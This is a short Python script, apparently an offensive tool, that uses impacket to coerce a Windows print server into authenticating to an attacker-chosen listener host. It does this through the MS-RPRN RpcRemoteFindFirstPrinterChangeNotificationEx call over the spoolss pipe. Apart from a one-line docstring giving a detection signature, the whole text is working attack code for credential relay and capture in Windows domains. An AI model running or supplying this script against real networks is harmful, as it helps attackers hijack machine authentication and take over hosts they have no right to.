#!/usr/bin/python3
"""Asks a print server to call back to another host: coerce.py SERVER LISTENER USER PASSWORD. The listener gets nothing here.

What the coercion of MS-RPRN is recognised by on the wire: RpcRemoteFindFirstPrinterChangeNotificationEx, number 65, with the name of a
third host.
"""
import sys

from impacket.dcerpc.v5 import rprn, transport

server, listener, user, password = sys.argv[1:5]
pipe = transport.DCERPCTransportFactory("ncacn_np:%s[\\pipe\\spoolss]" % server)
pipe.set_credentials(user, password)
client = pipe.get_dce_rpc()
client.connect()
client.bind(rprn.MSRPC_UUID_RPRN)
printer = rprn.hRpcOpenPrinter(client, "\\\\%s\0" % server)
request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
request["hPrinter"] = printer["pHandle"]
request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
request["pszLocalMachine"] = "\\\\%s\0" % listener
request["pOptions"] = rprn.NULL
try:
    client.request(request)
    print("accepted")
except rprn.DCERPCSessionError as refused:
    print(refused)
